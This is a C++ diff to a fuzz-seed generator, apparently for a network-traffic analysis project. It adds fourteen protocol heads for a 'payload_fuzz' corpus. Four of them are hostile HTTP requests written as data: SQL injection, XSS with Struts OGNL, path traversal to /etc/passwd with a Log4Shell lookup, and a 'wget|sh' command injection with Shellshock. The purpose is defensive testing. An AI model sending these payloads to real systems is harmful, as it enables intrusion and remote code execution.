@@ -5,6 +5,7 @@
 #include <filesystem>
 #include <string>
 #include <string_view>
+#include <utility>
 
 #include "model_container.h"
 #include "onnx.pb.h"
@@ -126,9 +127,35 @@ Bytes table_input(unsigned number) {
   return {table.begin(), table.end()};
 }
 
+/// Protocol and ports as payload_fuzz reads them, then one head of each kind that has a meaning.
+Bytes payload_input(unsigned number) {
+  using namespace std::string_view_literals;
+  constexpr std::string_view kTcp = "\1\x9c\x40\0\x50"sv, kQuery = "\x0a\x9c\x40\0\x35"sv, kAnswer = "\6\0\x35\x9c\x40"sv;
+  constexpr std::pair<std::string_view, std::string_view> kHeads[] = {
+      {kTcp, "GET /p?id=1%2527+union/**/select+1,2--+- HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n"},
+      {kTcp, "POST /a?q=%3Cscript%3Ealert(1) HTTP/1.1\r\nContent-Type: %{(#a='multipart/form-data')\r\n"},
+      {kTcp, "GET /d?f=..%c0%af..%u2215..%252fetc/passwd%00 HTTP/1.0\r\nX: ${${::-j}ndi:ldap://e}\r\n"},
+      {kTcp, "GET /c?x=1.1.1.1;wget+http://a/b|sh HTTP/1.1\r\nCookie: () { :; }; /bin/id\r\n"},
+      {kTcp, "HTTP/1.1 404 Not Found\r\n"},
+      {kTcp, "SSH-2.0-OpenSSH_9.2p1\r\n"},
+      {kTcp, "USER root\r\n"},
+      {kTcp, "a001 LOGIN bob secret\r\n"},
+      {kTcp, "APOP bob c4c9334bac560ecc979e58001b3e22fb\r\n"},
+      {kTcp, "535 5.7.8 authentication failed\r\n"},
+      {kTcp, "-ERR [AUTH] login failed\r\n"},
+      {kTcp, "a001 NO [AUTHENTICATIONFAILED] no\r\n"},
+      {kQuery, "\x12\x34\1\0\0\1\0\0\0\0\0\0\3wWw\7eXample\0\0\1\0\1"sv},
+      {kAnswer, "\x12\x34\x85\x83\0\1\0\0\0\1\0\0\3www\7example\0\0\1\0\1\xc0\x0c\0\6"sv},
+  };
+  const auto& [ports, head] = kHeads[number % std::size(kHeads)];
+  Bytes out(ports.begin(), ports.end());
+  out.insert(out.end(), head.begin(), head.end());
+  return out;
+}
+
 void write_all(const std::string& folder) {
   RandomFrames frames(5);
-  for (const char* name : {"packet_fuzz", "capture_fuzz", "model_file_fuzz", "csv_fuzz", "onnx_fuzz"})
+  for (const char* name : {"packet_fuzz", "capture_fuzz", "model_file_fuzz", "csv_fuzz", "onnx_fuzz", "payload_fuzz"})
     std::filesystem::create_directories(folder + "/" + name);
   for (int i = 0; i < kFiles; ++i) {
     save_file(folder + "/packet_fuzz/" + std::to_string(i),
@@ -138,6 +165,7 @@ void write_all(const std::string& folder) {
   for (unsigned i = 0; i < 40; ++i) save_file(folder + "/model_file_fuzz/" + std::to_string(i), model_input(i));
   for (unsigned i = 0; i < 40; ++i)
     save_file(folder + "/onnx_fuzz/" + std::to_string(i), i < 36 ? onnx_export_input(i) : onnx_ensemble_input(i));
+  for (unsigned i = 0; i < 14; ++i) save_file(folder + "/payload_fuzz/" + std::to_string(i), payload_input(i));
   for (unsigned i = 0; i < 5; ++i) save_file(folder + "/csv_fuzz/" + std::to_string(i), table_input(i));
 }
 
